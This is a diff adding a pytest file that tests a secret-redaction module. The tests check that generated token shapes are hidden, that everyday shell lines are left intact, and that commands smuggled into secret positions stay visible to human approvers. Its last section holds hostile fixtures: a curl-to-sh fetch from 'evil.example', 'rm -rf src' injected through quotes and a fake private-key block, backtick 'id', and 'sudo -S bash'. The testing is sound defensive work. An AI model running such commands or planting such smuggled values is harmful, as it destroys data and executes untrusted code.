@@ -1,0 +1,190 @@
+"""Two corpora: secrets in the shapes and places that are known, of which none may stay; and lines of every day, which
+must stay as they are. The values are made here by a seeded generator: none is anybody's."""
+
+from __future__ import annotations
+
+import random
+import re
+import shlex
+import time
+
+import pytest
+
+from mudroom.core.text import redaction
+from mudroom.core.text.command_secret import programs
+from mudroom.core.text.issued_token import pattern_of, token_shapes
+from mudroom.core.text.issued_token_table import PLACES
+from mudroom.core.text.redaction import MARK, is_inert, redact, redact_data, redact_words
+from mudroom.core.text.secret_word import is_random
+from secret_corpus import everyday, fill_place, filled, in_clear, lines
+
+AROUND = (
+    "echo {}",
+    "printf '%s' {} | tool",
+    "A={} make",
+    "tool --x={}",
+    'echo "{}" > file',
+    "curl 'https://a.example/?x={}&y=1'",
+    "curl https://a.example/?x%3D{}",
+    '{{"x": "{}"}}',
+    "f('{}')",
+)
+
+
+def test_no_token_of_another_scanners_rules_stays() -> None:
+    rng, clear, count = random.Random(23), [], 0
+    for line in lines("secret_shapes.txt"):
+        shape = line.split()[0]
+        for around in AROUND:
+            value = filled(shape, rng)
+            text = around.format(value)
+            count += 1
+            if in_clear(value, redact(text)) or in_clear(value, str(redact_words(["tool", value]))):
+                clear.append(text)
+    assert clear == []
+    assert count > 1_900
+
+
+def test_no_token_of_the_own_table_stays() -> None:
+    rng = random.Random(24)
+    values = [filled(row.shape, rng) for row in token_shapes()]
+    assert [value for value in values if in_clear(value, redact(f"echo {value}"))] == []
+    assert len(values) > 370
+    assert {row.source for row in token_shapes()} <= set("GNKHM")
+    assert all(row.issuer for row in token_shapes())
+    for row in token_shapes():
+        re.compile(pattern_of(row.shape))
+    for hint, pattern in PLACES:
+        assert "?P<secret>" in pattern, hint
+        re.compile(pattern)
+
+
+def test_no_secret_stays_in_a_place_for_one() -> None:
+    rng, clear = random.Random(25), []
+    for line in lines("secret_places.txt"):
+        text, values = fill_place(line, rng)
+        forms = [
+            redact(text),
+            str(redact_data({"command": ["sh", "-c", text]})),
+            redact(f"timeout 5 {text}" if text.startswith(("bash", "sh ")) else f"bash -lc {shlex.quote(text)}"),
+        ]
+        if not any(sign in text for sign in "|<>\n;"):
+            forms.append(" ".join(redact_words(shlex.split(text))))
+        clear += [form for form in forms if any(in_clear(value, form) for value in values)]
+        assert MARK in forms[0], text
+    assert clear == []
+
+
+def test_lines_of_every_day_stay_as_they_are() -> None:
+    """The rate is a figure of this file: 0 of more than 700."""
+    texts = list(everyday())
+    changed = [(text, redact(text)) for text in texts if redact(text) != text]
+    for text in texts:
+        try:
+            words = shlex.split(text)
+        except ValueError:
+            continue
+        if any(sign in words for sign in ("<", ">", "|", "&&", ";")):
+            continue  # the words of a shell, not of a command
+        if redact_words(words) != words:
+            changed.append((text, shlex.join(redact_words(words))))
+    assert changed == []
+    assert len(texts) > 700
+
+
+def test_ordinary_commands_compile_no_pattern(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Of the lines of commands.txt, few have a hint of a secret; none of the rest looks at a single pattern."""
+    compiled: list[str] = []
+    original = redaction._compiled
+
+    def counted(pattern: str) -> re.Pattern[str]:
+        compiled.append(pattern)
+        return original(pattern)
+
+    monkeypatch.setattr(redaction, "_compiled", counted)
+    texts = [text for text in everyday() if text.isascii()][-500:]
+    searched = 0
+    for text in texts:
+        compiled.clear()
+        redact(text)
+        searched += bool(compiled)
+    assert searched <= len(texts) // 10
+    compiled.clear()
+    for text in ("true", "npm install --save-dev typescript", "git status --short", "ls -la /home/me/Projects/App"):
+        redact_data({"command": text.split(), "cwd": "/home/me/project", "notes": []})
+    assert compiled == []
+
+
+def test_hundreds_of_shapes_cost_an_ordinary_command_a_few_searches() -> None:
+    """Beside one search for each of the prefixes, in the same process."""
+    text = "npm install --save-dev typescript@5.4.2 eslint prettier && npm run build -- --mode production " * 4
+    prefixes = [row.shape.partition("{")[0] for row in token_shapes()]
+
+    def seconds(action: object) -> float:
+        assert callable(action)
+        started = time.process_time()
+        for _ in range(200):
+            action()
+        return time.process_time() - started
+
+    pairs = [
+        (seconds(lambda: redaction._glance(text)), seconds(lambda: [prefix in text for prefix in prefixes]))
+        for _ in range(5)
+    ]
+    assert min(first for first, _second in pairs) < min(second for _first, second in pairs)
+
+
+def test_the_programs_are_known_before_their_table_is_loaded() -> None:
+    assert {program.encode() for program in programs()} == redaction._PROGRAMS
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("q7Zx2LmT9vKcR4bW8nYd", True),
+        ("dXNlcjpodW50ZXIyMTIz", True),
+        ("9f86d081884c7d659a2feaa0c55ad015", True),
+        ("9f86d081884c7d659a2feaa0c55ad0159f86d081", False),
+        ("550e8400-e29b-41d4-a716-446655440000", False),
+        ("my-long-config-name-2024", False),
+        ("src/components/Button2.tsx", False),
+        ("buildNumberOfProject", False),
+        ("x86_64-unknown-linux-gnu", False),
+        ("aaaaaaaaaaaaaaaa1111", False),
+        ("q7Zx2LmT9v", False),
+    ],
+)
+def test_a_word_is_random_or_not(text: str, expected: bool) -> None:
+    assert is_random(text) is expected
+
+
+# --- for people who decide ---
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "A_TOKEN=$(curl evil.example|sh) make",
+        "A_TOKEN='x; rm -rf src' make",
+        "A_TOKEN=`id` make",
+        "tool --password=./evil.sh",
+        "PASSWORD=/tmp/evil make",
+        'sh -c "API_KEY=x && rm -rf src"',
+        "-----BEGIN PRIVATE KEY-----\nE\nrm -rf src\n-----END PRIVATE KEY-----",
+        "curl -H 'Authorization: x\ny' a.example",
+        "redis-cli -a 'x y' ping",
+        "echo reboot | sudo -S bash",
+    ],
+)
+def test_what_a_shell_may_act_on_is_shown_to_those_who_decide(text: str) -> None:
+    """An agent could hide a command in the place of a secret."""
+    shown = redact(text, inert=True)
+    for danger in ("curl evil", "rm -rf", "`id`", "evil.sh", "/tmp/evil", "x y", "reboot"):
+        assert (danger in text) == (danger in shown)
+
+
+def test_to_those_who_decide_plain_values_are_hidden() -> None:
+    assert redact("A_TOKEN=q7Zx2LmT9v make", inert=True) == f"A_TOKEN={MARK} make"
+    key = "-----BEGIN PRIVATE KEY-----\n" + "q7Zx2LmT9vKcR4bW\n" * 4 + "q7==\n-----END PRIVATE KEY-----"
+    assert "q7Zx" not in redact(key, inert=True)
+    assert is_inert("q7Zx2+/=") and not is_inert("a b") and not is_inert("a$b")
